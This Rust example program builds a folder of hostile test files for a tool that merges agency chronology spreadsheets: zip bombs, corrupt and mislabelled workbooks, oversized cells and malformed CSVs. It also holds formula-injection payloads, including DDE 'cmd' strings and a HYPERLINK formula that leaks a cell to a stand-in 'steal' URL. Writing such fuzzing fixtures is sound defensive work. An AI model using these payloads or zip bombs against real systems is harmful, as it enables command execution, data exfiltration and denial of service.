//! Writes the hostile-returns folder: every kind of broken, huge or
//! malicious file an agency (or its case system) might send, next to a few
//! good returns, so that one merge run proves none of them crashes the
//! engine, loses an event or gets anything into the merged workbook.
//!
//! ```text
//! cargo run --example make_hostile -- tests/hostile          # small cases (committed)
//! cargo run --example make_hostile -- --big /tmp/hostile-big # large cases (made at test time)
//! ```
//!
//! The small cases are each under 1 MB and kept in the repository; the
//! large ones (a 4 GB zip bomb, a million formatted empty rows, a 10 MB CSV
//! cell) are made by `tests/hostile.rs` into a temporary folder. The real
//! password-protected workbook needs `msoffcrypto-tool` (`pip install
//! msoffcrypto-tool`); without it the committed copy is kept.
#![allow(dead_code)]

use std::io::{Read, Seek, Write};
use std::path::Path;

use rust_xlsxwriter::Workbook;

/// The template's headings.
pub const HEADINGS: [&str; 10] = [
    "Date",
    "Time",
    "Sequence",
    "Source of information",
    "Practitioner role",
    "Child or family member",
    "Event type",
    "Details of event",
    "Action / outcome",
    "Analysis / comment",
];

/// One event of a generated return: date text, source, details.
pub type Ev = (&'static str, &'static str, String);

/// The events of a good return, each details cell carrying a unique tag
/// (`EVT-…`) that the test looks for in the merged chronology.
pub fn events(tag: &str, n: usize) -> Vec<Ev> {
    (0..n)
        .map(|i| {
            (
                [
                    "05/03/2019",
                    "12/04/2019",
                    "2019-06-01",
                    "3 July 2019",
                    "14.8.19",
                ][i % 5],
                "Case record",
                format!("EVT-{tag}-{i}: Child A seen at home; mother present."),
            )
        })
        .collect()
}

/// A return workbook (Guidance, Agency details, Chronology) as bytes.
/// `extra` may add to the chronology sheet.
pub fn return_xlsx(
    agency: &str,
    evs: &[Ev],
    extra: impl FnOnce(&mut rust_xlsxwriter::Worksheet),
) -> Vec<u8> {
    let mut wb = Workbook::new();
    let dt = chrono_like_fixed();
    wb.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(&dt));
    {
        let g = wb.add_worksheet();
        g.set_name("Guidance").unwrap();
        g.write_string(0, 0, "Use roles, not names.").unwrap();
    }
    {
        let d = wb.add_worksheet();
        d.set_name("Agency details").unwrap();
        d.write_string(0, 0, "Agency").unwrap();
        d.write_string(0, 1, agency).unwrap();
        d.write_string(1, 0, "Review reference").unwrap();
        d.write_string(1, 1, "LCSPR-2024-03").unwrap();
    }
    let ws = wb.add_worksheet();
    ws.set_name("Chronology").unwrap();
    for (c, h) in HEADINGS.iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for (i, (date, source, details)) in evs.iter().enumerate() {
        let r = 1 + i as u32;
        ws.write_string(r, 0, *date).unwrap();
        ws.write_string(r, 3, *source).unwrap();
        ws.write_string(r, 4, "Health visitor").unwrap();
        ws.write_string(r, 5, "Child A").unwrap();
        ws.write_string(r, 6, "Contact or visit").unwrap();
        ws.write_string(r, 7, details).unwrap();
    }
    extra(ws);
    wb.save_to_buffer().unwrap()
}

fn chrono_like_fixed() -> rust_xlsxwriter::ExcelDateTime {
    rust_xlsxwriter::ExcelDateTime::from_ymd(2024, 1, 1).unwrap()
}

/// Copies a zip, letting `edit` replace the content of chosen parts (it
/// returns true when it wrote the part itself).
pub fn rewrite_zip(
    src: &[u8],
    out: impl Write + Seek,
    mut edit: impl FnMut(&str, &[u8], &mut dyn Write) -> bool,
) {
    let mut zin = zip::ZipArchive::new(std::io::Cursor::new(src)).unwrap();
    let mut zout = zip::ZipWriter::new(out);
    for i in 0..zin.len() {
        let mut f = zin.by_index(i).unwrap();
        let name = f.name().unwrap().into_owned();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(true);
        zout.start_file(name.as_str(), opts).unwrap();
        if !edit(&name, &data, &mut zout) {
            zout.write_all(&data).unwrap();
        }
    }
    zout.finish().unwrap();
}

const CHRON_PART: &str = "xl/worksheets/sheet3.xml";

/// An xlsx whose chronology sheet is followed by `rows` formatted empty rows.
pub fn formatted_empty_rows(rows: u32) -> Vec<u8> {
    let good = return_xlsx("Formatted rows agency", &events("formatted", 3), |_| {});
    let mut out = std::io::Cursor::new(Vec::new());
    rewrite_zip(&good, &mut out, |name, data, w| {
        if name != CHRON_PART {
            return false;
        }
        let text = String::from_utf8_lossy(data);
        let (head, tail) = text.split_at(text.find("</sheetData>").unwrap());
        w.write_all(head.as_bytes()).unwrap();
        let mut buf = String::new();
        for r in 5..5 + rows {
            buf.push_str(&format!(
                "<row r=\"{r}\" s=\"0\" customFormat=\"1\" ht=\"15\" customHeight=\"1\"><c r=\"A{r}\" s=\"0\"/><c r=\"J{r}\" s=\"0\"/></row>"
            ));
            if buf.len() > 1 << 20 {
                w.write_all(buf.as_bytes()).unwrap();
                buf.clear();
            }
        }
        w.write_all(buf.as_bytes()).unwrap();
        w.write_all(tail.as_bytes()).unwrap();
        true
    });
    out.into_inner()
}

/// An entry of [`raw_zip`]: name, method, packed bytes, unpacked size, CRC-32.
pub type ZipEntry = (String, u16, Vec<u8>, u64, u32);

/// A zip written by hand: (name, method (0 stored, 8 deflated), packed
/// bytes, unpacked size, CRC-32) for each entry. Sizes must stay under
/// 4 GiB (no zip64).
pub fn raw_zip(entries: &[ZipEntry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, method, data, size, crc) in entries {
        let offset = out.len() as u32;
        let head = |sig: u32, central: bool| {
            let mut h = Vec::new();
            h.extend_from_slice(&sig.to_le_bytes());
            if central {
                h.extend_from_slice(&20u16.to_le_bytes());
            }
            h.extend_from_slice(&20u16.to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes());
            h.extend_from_slice(&method.to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes());
            h.extend_from_slice(&0x21u16.to_le_bytes());
            h.extend_from_slice(&crc.to_le_bytes());
            h.extend_from_slice(&(data.len() as u32).to_le_bytes());
            h.extend_from_slice(&(*size as u32).to_le_bytes());
            h.extend_from_slice(&(name.len() as u16).to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes());
            h
        };
        out.extend(head(0x0403_4b50, false));
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend(head(0x0201_4b50, true));
        central.extend_from_slice(&[0u8; 6]); // comment, disk, internal attributes
        central.extend_from_slice(&0u32.to_le_bytes()); // external attributes
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0u8; 4]);
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_at.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// Raw deflate of `chunk` repeated `n` times, cheaply: once the window is
/// full of the repeating pattern, every further chunk packs to the same
/// bytes, so one packed chunk is repeated. Returns (packed, CRC-32).
pub fn deflate_repeated(chunk: &[u8], n: usize) -> (Vec<u8>, u32) {
    use flate2::{Compress, Compression, FlushCompress};
    let mut c = Compress::new(Compression::best(), false);
    let mut pack = |input: &[u8], flush| {
        let mut out = Vec::with_capacity(input.len() / 4 + 1024);
        let start_in = c.total_in();
        loop {
            let done = (c.total_in() - start_in) as usize;
            c.compress_vec(&input[done..], &mut out, flush).unwrap();
            if (c.total_in() - start_in) as usize == input.len() && out.len() < out.capacity() {
                break;
            }
            out.reserve(out.capacity());
        }
        out
    };
    let first = pack(chunk, FlushCompress::Sync);
    let second = pack(chunk, FlushCompress::Sync);
    let third = pack(chunk, FlushCompress::Sync);
    assert_eq!(second, third, "the packed chunk did not settle");
    let mut packed = first;
    for _ in 1..n {
        packed.extend_from_slice(&second);
    }
    packed.extend(pack(&[], FlushCompress::Finish));
    let mut crc = crc32fast::Hasher::new();
    let one = {
        let mut h = crc32fast::Hasher::new();
        h.update(chunk);
        h
    };
    for _ in 0..n {
        crc.combine(&one);
    }
    (packed, crc.finalize())
}

/// A zip bomb: a workbook whose chronology sheet unpacks to about `bytes`
/// of formatted empty rows (some 1,000 times its packed size). Under 4 GiB.
pub fn zip_bomb(bytes: u64) -> Vec<u8> {
    let good = return_xlsx("Bomb agency", &events("bomb", 2), |_| {});
    let mut zin = zip::ZipArchive::new(std::io::Cursor::new(&good)).unwrap();
    let mut entries = Vec::new();
    for i in 0..zin.len() {
        let mut f = zin.by_index(i).unwrap();
        let name = f.name().unwrap().into_owned();
        if name == CHRON_PART {
            continue;
        }
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        let crc = crc32fast::hash(&data);
        let size = data.len() as u64;
        entries.push((name, 0u16, data, size, crc));
    }
    let chunk = "<row s=\"0\" customFormat=\"1\"/>".repeat(1 << 15);
    let n = (bytes / chunk.len() as u64).max(3) as usize;
    let (packed, crc) = deflate_repeated(chunk.as_bytes(), n);
    entries.push((
        CHRON_PART.to_string(),
        8,
        packed,
        (chunk.len() * n) as u64,
        crc,
    ));
    raw_zip(&entries)
}

/// A CSV return with the given rows (header first), comma separated.
pub fn csv_bytes(rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .flexible(true)
        .from_writer(vec![]);
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.into_inner().unwrap()
}

fn csv_header() -> Vec<String> {
    let mut h: Vec<String> = HEADINGS.iter().map(|s| s.to_string()).collect();
    h.push("Agency".into());
    h
}

fn csv_row(date: &str, source: &str, details: &str, agency: &str) -> Vec<String> {
    vec![
        date.into(),
        "".into(),
        "".into(),
        source.into(),
        "Nurse".into(),
        "Child A".into(),
        "Contact or visit".into(),
        details.into(),
        "".into(),
        "".into(),
        agency.into(),
    ]
}

/// A CSV with one `cell_bytes`-long Details cell between two short events.
pub fn big_cell_csv(cell_bytes: usize) -> Vec<u8> {
    let mut big = String::from("EVT-bigcell-1: ");
    let sentence = "The health visitor recorded a long note. ";
    while big.len() < cell_bytes {
        big.push_str(sentence);
    }
    csv_bytes(&[
        csv_header(),
        csv_row(
            "01/02/2019",
            "Case record",
            "EVT-bigcell-0: short",
            "Big cell agency",
        ),
        csv_row("02/02/2019", "Case record", &big, "Big cell agency"),
        csv_row(
            "03/02/2019",
            "Case record",
            "EVT-bigcell-2: short",
            "Big cell agency",
        ),
    ])
}

/// Writes a minimal OpenDocument spreadsheet: `tables` of (name, content
/// XML of the table's rows).
pub fn ods_bytes(tables: &[(&str, String)], encrypted: bool) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    let mut z = zip::ZipWriter::new(&mut out);
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let deflated = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    z.start_file("mimetype", stored).unwrap();
    z.write_all(b"application/vnd.oasis.opendocument.spreadsheet")
        .unwrap();
    z.start_file("META-INF/manifest.xml", deflated).unwrap();
    let enc = if encrypted {
        "<manifest:encryption-data manifest:checksum-type=\"SHA1/1K\" manifest:checksum=\"AAAA\"><manifest:algorithm manifest:algorithm-name=\"Blowfish CFB\" manifest:initialisation-vector=\"AAAA\"/></manifest:encryption-data>"
    } else {
        ""
    };
    write!(
        z,
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\">{enc}</manifest:file-entry></manifest:manifest>"
    )
    .unwrap();
    z.start_file("content.xml", deflated).unwrap();
    if encrypted {
        z.write_all(&[0x8Bu8, 0x13, 0x99, 0x02, 0xFE, 0x00, 0x41, 0x7F].repeat(64))
            .unwrap();
    } else {
        z.write_all(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\"><office:body><office:spreadsheet>").unwrap();
        for (name, rows) in tables {
            write!(z, "<table:table table:name=\"{name}\">{rows}</table:table>").unwrap();
        }
        z.write_all(b"</office:spreadsheet></office:body></office:document-content>")
            .unwrap();
    }
    z.finish().unwrap();
    out.into_inner()
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn ods_row(cells: &[&str]) -> String {
    let mut s = String::from("<table:table-row>");
    for c in cells {
        if c.is_empty() {
            s.push_str("<table:table-cell/>");
        } else {
            s.push_str(&format!(
                "<table:table-cell office:value-type=\"string\"><text:p>{}</text:p></table:table-cell>",
                xml_escape(c)
            ));
        }
    }
    s.push_str("</table:table-row>");
    s
}

/// An .ods return; `tail` is appended to the Chronology table's rows.
pub fn ods_return(agency: &str, evs: &[Ev], tail: &str) -> Vec<u8> {
    let details = ods_row(&["Agency", agency]) + &ods_row(&["Review reference", "LCSPR-2024-03"]);
    let mut chron = ods_row(&HEADINGS);
    for (d, s, det) in evs {
        chron.push_str(&ods_row(&[
            d,
            "",
            "",
            s,
            "Nurse",
            "Child A",
            "Contact or visit",
            det,
        ]));
    }
    chron.push_str(tail);
    ods_bytes(&[("Agency details", details), ("Chronology", chron)], false)
}

/// A BIFF8 record.
fn rec(out: &mut Vec<u8>, typ: u16, data: &[u8]) {
    out.extend_from_slice(&typ.to_le_bytes());
    out.extend_from_slice(&(data.len() as u16).to_le_bytes());
    out.extend_from_slice(data);
}

fn bof(out: &mut Vec<u8>, dt: u16) {
    let mut d = vec![];
    d.extend_from_slice(&0x0600u16.to_le_bytes());
    d.extend_from_slice(&dt.to_le_bytes());
    d.extend_from_slice(&[0; 12]);
    rec(out, 0x0809, &d);
}

fn label(out: &mut Vec<u8>, row: u16, col: u16, text: &str) {
    let units: Vec<u16> = text.encode_utf16().collect();
    let mut d = vec![];
    d.extend_from_slice(&row.to_le_bytes());
    d.extend_from_slice(&col.to_le_bytes());
    d.extend_from_slice(&15u16.to_le_bytes());
    d.extend_from_slice(&(units.len() as u16).to_le_bytes());
    d.push(1); // UTF-16
    for u in units {
        d.extend_from_slice(&u.to_le_bytes());
    }
    rec(out, 0x0204, &d);
}

/// The text cells of an .xls sheet: (row, column, text), 0-based.
pub type XlsCells = Vec<(u16, u16, String)>;

/// A minimal Excel 97–2003 workbook (BIFF8 in an OLE compound file):
/// sheets of (name, cells (row, col, text)).
pub fn xls_bytes(sheets: &[(&str, XlsCells)]) -> Vec<u8> {
    // Globals first, with placeholder sheet offsets patched afterwards.
    let mut g = vec![];
    bof(&mut g, 0x0005);
    rec(&mut g, 0x0042, &1200u16.to_le_bytes()); // CODEPAGE: UTF-16
    let mut patch = vec![];
    for (name, _) in sheets {
        let units: Vec<u16> = name.encode_utf16().collect();
        let mut d = vec![0u8; 4];
        d.extend_from_slice(&[0, 0]); // visible worksheet
        d.push(units.len() as u8);
        d.push(1);
        for u in units {
            d.extend_from_slice(&u.to_le_bytes());
        }
        patch.push(g.len() + 4);
        rec(&mut g, 0x0085, &d);
    }
    rec(&mut g, 0x000A, &[]);
    for (i, (_, cells)) in sheets.iter().enumerate() {
        let at = g.len() as u32;
        g[patch[i]..patch[i] + 4].copy_from_slice(&at.to_le_bytes());
        bof(&mut g, 0x0010);
        let rmax = cells.iter().map(|c| c.0 as u32 + 1).max().unwrap_or(0);
        let cmax = cells.iter().map(|c| c.1 + 1).max().unwrap_or(0);
        let mut d = vec![];
        d.extend_from_slice(&0u32.to_le_bytes());
        d.extend_from_slice(&rmax.to_le_bytes());
        d.extend_from_slice(&0u16.to_le_bytes());
        d.extend_from_slice(&cmax.to_le_bytes());
        d.extend_from_slice(&0u16.to_le_bytes());
        rec(&mut g, 0x0200, &d);
        for (r, c, t) in cells {
            label(&mut g, *r, *c, t);
        }
        rec(&mut g, 0x000A, &[]);
    }
    let mut comp = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    comp.create_stream("/Workbook")
        .unwrap()
        .write_all(&g)
        .unwrap();
    comp.flush().unwrap();
    comp.into_inner().into_inner()
}

/// An .xls return; `extra` cells are added to the chronology.
pub fn xls_return(agency: &str, evs: &[Ev], extra: &[(u16, u16, &str)]) -> Vec<u8> {
    let details = vec![
        (0, 0, "Agency".to_string()),
        (0, 1, agency.to_string()),
        (1, 0, "Review reference".to_string()),
        (1, 1, "LCSPR-2024-03".to_string()),
    ];
    let mut chron: XlsCells = HEADINGS
        .iter()
        .enumerate()
        .map(|(c, h)| (0, c as u16, h.to_string()))
        .collect();
    for (i, (d, s, det)) in evs.iter().enumerate() {
        let r = 1 + i as u16;
        chron.push((r, 0, d.to_string()));
        chron.push((r, 3, s.to_string()));
        chron.push((r, 6, "Contact or visit".into()));
        chron.push((r, 7, det.clone()));
    }
    for (r, c, t) in extra {
        chron.push((*r, *c, t.to_string()));
    }
    xls_bytes(&[("Agency details", details), ("Chronology", chron)])
}

/// An OLE container laid out like an encrypted Office package (what Excel
/// writes for a password-protected .xlsx), without real encryption.
pub fn encrypted_container() -> Vec<u8> {
    let mut comp = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    comp.create_stream("/EncryptionInfo")
        .unwrap()
        .write_all(&[4, 0, 4, 0, 0x40, 0, 0, 0])
        .unwrap();
    comp.create_stream("/EncryptedPackage")
        .unwrap()
        .write_all(&[0x5Au8; 4096])
        .unwrap();
    comp.flush().unwrap();
    comp.into_inner().into_inner()
}

/// The small cases: file name → bytes. Each is under 1 MB.
pub fn small_cases() -> Vec<(String, Vec<u8>)> {
    let mut v: Vec<(String, Vec<u8>)> = Vec::new();
    let good = return_xlsx("West Yorkshire Police", &events("police", 4), |_| {});
    v.push(("good police return.xlsx".into(), good.clone()));
    v.push((
        "Équipe santé — Ålesund 保健 return.xlsx".into(),
        return_xlsx("Santé équipe", &events("unicode", 3), |_| {}),
    ));
    // Truncated: the zip's end (its directory) is missing.
    let gp = return_xlsx("GP practice", &events("truncated", 3), |_| {});
    v.push(("truncated.xlsx".into(), gp[..gp.len() * 6 / 10].to_vec()));
    // Corrupt: the chronology sheet's packed bytes are overwritten.
    let mut bad = return_xlsx("Corrupt agency", &events("corrupt", 3), |_| {});
    let at = {
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(&bad)).unwrap();
        let f = z.by_name(CHRON_PART).unwrap();
        (
            f.data_start().unwrap() as usize,
            f.compressed_size() as usize,
        )
    };
    for b in &mut bad[at.0 + 2..at.0 + at.1.min(40)] {
        *b ^= 0xA5;
    }
    v.push(("corrupt zip.xlsx".into(), bad));
    v.push((
        "password protected (container).xlsx".into(),
        encrypted_container(),
    ));
    v.push((
        "actually a PDF.xlsx".into(),
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
            .to_vec(),
    ));
    v.push((
        "actually a web page.xlsx".into(),
        b"<!DOCTYPE html><html><body><table><tr><td>Date</td></tr></table></body></html>\n"
            .to_vec(),
    ));
    v.push((
        "web export.xls".into(),
        b"<html><body><table><tr><td>Date</td><td>Details of event</td></tr></table></body></html>\n"
            .to_vec(),
    ));
    v.push(("empty.xlsx".into(), Vec::new()));
    {
        let mut out = std::io::Cursor::new(Vec::new());
        let mut z = zip::ZipWriter::new(&mut out);
        z.start_file(
            "word/document.xml",
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        z.write_all(b"<w:document/>").unwrap();
        z.finish().unwrap();
        v.push(("a Word document.xlsx".into(), out.into_inner()));
    }
    v.push(("zip bomb.xlsx".into(), zip_bomb(340 << 20)));
    // A shared-string table claiming ten billion strings (calamine
    // reserves that many up front).
    {
        let good = return_xlsx("Lying strings agency", &events("sst", 2), |_| {});
        let mut out = std::io::Cursor::new(Vec::new());
        rewrite_zip(&good, &mut out, |name, data, w| {
            if name != "xl/sharedStrings.xml" {
                return false;
            }
            let text = String::from_utf8_lossy(data);
            let at = text.find("uniqueCount=\"").unwrap() + "uniqueCount=\"".len();
            let end = at + text[at..].find('"').unwrap();
            w.write_all(text[..at].as_bytes()).unwrap();
            w.write_all(b"10000000000").unwrap();
            w.write_all(text[end..].as_bytes()).unwrap();
            true
        });
        v.push(("absurd shared strings count.xlsx".into(), out.into_inner()));
    }
    v.push((
        "stray value at XFD1048576.xlsx".into(),
        return_xlsx("Stray xlsx agency", &events("strayxlsx", 3), |ws| {
            ws.write_string(1_048_575, 16_383, "stray").unwrap();
        }),
    ));
    let stray_ods_tail = "<table:table-row table:number-rows-repeated=\"1048571\"><table:table-cell table:number-columns-repeated=\"16384\"/></table:table-row><table:table-row><table:table-cell table:number-columns-repeated=\"16383\"/><table:table-cell office:value-type=\"string\"><text:p>stray</text:p></table:table-cell></table:table-row>";
    v.push((
        "stray value at XFD1048576.ods".into(),
        ods_return("Stray ods agency", &events("strayods", 3), stray_ods_tail),
    ));
    v.push((
        "good health visiting.ods".into(),
        ods_return(
            "Health visiting",
            &events("ods", 3),
            "<table:table-row table:style-name=\"ro1\" table:number-rows-repeated=\"1048000\"><table:table-cell table:style-name=\"ce1\" table:number-columns-repeated=\"1024\"/></table:table-row>",
        ),
    ));
    v.push(("password protected.ods".into(), ods_bytes(&[], true)));
    v.push((
        "stray value at IV65536.xls".into(),
        xls_return(
            "Stray xls agency",
            &events("strayxls", 3),
            &[(65_535, 255, "stray")],
        ),
    ));
    v.push((
        "good education.xls".into(),
        xls_return("Education", &events("xls", 3), &[]),
    ));
    // Formula injection: text that a spreadsheet would run if it were
    // written as a formula, plus one real formula cell.
    let inject = [
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid/steal?x=\"&A1,\"Click for details\")",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut evs = Vec::new();
    for (i, t) in inject.iter().enumerate() {
        evs.push(("01/05/2019", "Case record", format!("{t} EVT-injectx-{i}")));
    }
    v.push((
        "formula injection.xlsx".into(),
        return_xlsx("Injection xlsx agency", &evs, |ws| {
            ws.write_string(20, 0, "02/05/2019").unwrap();
            ws.write_string(20, 3, "=HYPERLINK(\"http://example.invalid\",\"x\")")
                .unwrap();
            ws.write_formula(
                20,
                7,
                rust_xlsxwriter::Formula::new("=\"EVT-injectx-formula\"")
                    .set_result("EVT-injectx-formula"),
            )
            .unwrap();
            ws.write_url(21, 7, "http://example.invalid/link").unwrap();
            ws.write_string(21, 0, "03/05/2019").unwrap();
            ws.write_string(21, 3, "Case record").unwrap();
        }),
    ));
    let mut rows = vec![csv_header()];
    for (i, t) in inject.iter().enumerate() {
        let det = format!("{t} EVT-injectc-{i}");
        rows.push(csv_row("01/05/2019", t, &det, "Injection csv agency"));
    }
    v.push(("formula injection.csv".into(), csv_bytes(&rows)));
    // Ragged rows: one short, one long.
    let mut rows = vec![csv_header()];
    rows.push(csv_row(
        "01/06/2019",
        "Case record",
        "EVT-ragged-0",
        "Ragged agency",
    ));
    let mut short = csv_row("02/06/2019", "Case record", "EVT-ragged-1", "Ragged agency");
    short.truncate(8);
    rows.push(short);
    let mut long = csv_row("03/06/2019", "Case record", "EVT-ragged-2", "Ragged agency");
    long.extend(["x".to_string(), "y".to_string()]);
    rows.push(long);
    v.push(("ragged rows.csv".into(), csv_bytes(&rows)));
    // NUL bytes inside fields.
    let mut rows = vec![csv_header()];
    rows.push(csv_row(
        "01/07/2019",
        "Case\0 record",
        "EVT-nul-0\0\0",
        "Nul agency",
    ));
    rows.push(csv_row(
        "02/07/2019",
        "Case record",
        "EVT-nul-1",
        "Nul agency",
    ));
    v.push(("nul bytes.csv".into(), csv_bytes(&rows)));
    // An unterminated quote on the second event.
    let mut text = String::from_utf8(csv_bytes(&[
        csv_header(),
        csv_row("01/08/2019", "Case record", "EVT-quote-0", "Quote agency"),
    ]))
    .unwrap();
    text.push_str("02/08/2019,,,Case record,Nurse,Child A,Contact or visit,\"EVT-quote-1 the note opens a quote and never closes it,,,Quote agency\r\n");
    text.push_str(
        "03/08/2019,,,Case record,Nurse,Child A,Contact or visit,EVT-quote-2,,,Quote agency\r\n",
    );
    v.push(("unterminated quote.csv".into(), text.into_bytes()));
    // Text over Excel's cell limit (kept whole, split across rows).
    let mut long_text = String::from("EVT-longtext-0: ");
    while long_text.chars().count() < 40_000 {
        long_text.push_str("Ré-évaluation du cas, notes détaillées. ");
    }
    v.push((
        "long text over 32767.csv".into(),
        csv_bytes(&[
            csv_header(),
            csv_row("01/09/2019", "Case record", &long_text, "Long text agency"),
        ]),
    ));
    // A UTF-16 "Unicode text" export from Excel: tab separated, with BOM.
    let mut utf16 = vec![0xFF, 0xFE];
    let mut t = csv_header().join("\t") + "\r\n";
    t += &csv_row(
        "01/10/2019",
        "Case record",
        "EVT-utf16-0 café",
        "UTF-16 agency",
    )
    .join("\t");
    t += "\r\n";
    for u in t.encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    v.push(("unicode text export.csv".into(), utf16));
    v
}

/// The large cases, made at test time: file name → bytes.
pub fn big_cases() -> Vec<(String, Vec<u8>)> {
    vec![
        ("zip bomb 3.5 GB.xlsx".into(), zip_bomb(3584 << 20)),
        (
            "million formatted empty rows.xlsx".into(),
            formatted_empty_rows(1_000_000),
        ),
        ("10 MB cell.csv".into(), big_cell_csv(10 << 20)),
    ]
}

/// Writes the cases into `dir`.
pub fn write_cases(dir: &Path, cases: &[(String, Vec<u8>)]) {
    std::fs::create_dir_all(dir).unwrap();
    for (name, bytes) in cases {
        std::fs::write(dir.join(name), bytes).unwrap();
    }
}

/// Makes the real password-protected workbook with msoffcrypto-tool, if
/// it is installed (password `Passw0rd`).
pub fn real_encrypted(dir: &Path) -> bool {
    let plain = dir.join(".plain-for-encryption.xlsx");
    std::fs::write(
        &plain,
        return_xlsx("Encrypted agency", &events("encrypted", 2), |_| {}),
    )
    .unwrap();
    let ok = std::process::Command::new("msoffcrypto-tool")
        .args(["-e", "-p", "Passw0rd"])
        .arg(&plain)
        .arg(dir.join("password protected.xlsx"))
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    let _ = std::fs::remove_file(&plain);
    ok
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let big = args.iter().any(|a| a == "--big");
    let dir = args
        .iter()
        .find(|a| !a.starts_with("--"))
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| "tests/hostile".into());
    let cases = if big { big_cases() } else { small_cases() };
    write_cases(&dir, &cases);
    if !big {
        if real_encrypted(&dir) {
            println!("password protected.xlsx: encrypted with msoffcrypto-tool");
        } else {
            println!("msoffcrypto-tool not found: kept the existing password protected.xlsx");
        }
    }
    for (name, bytes) in &cases {
        println!("{name}: {} bytes", bytes.len());
    }
}
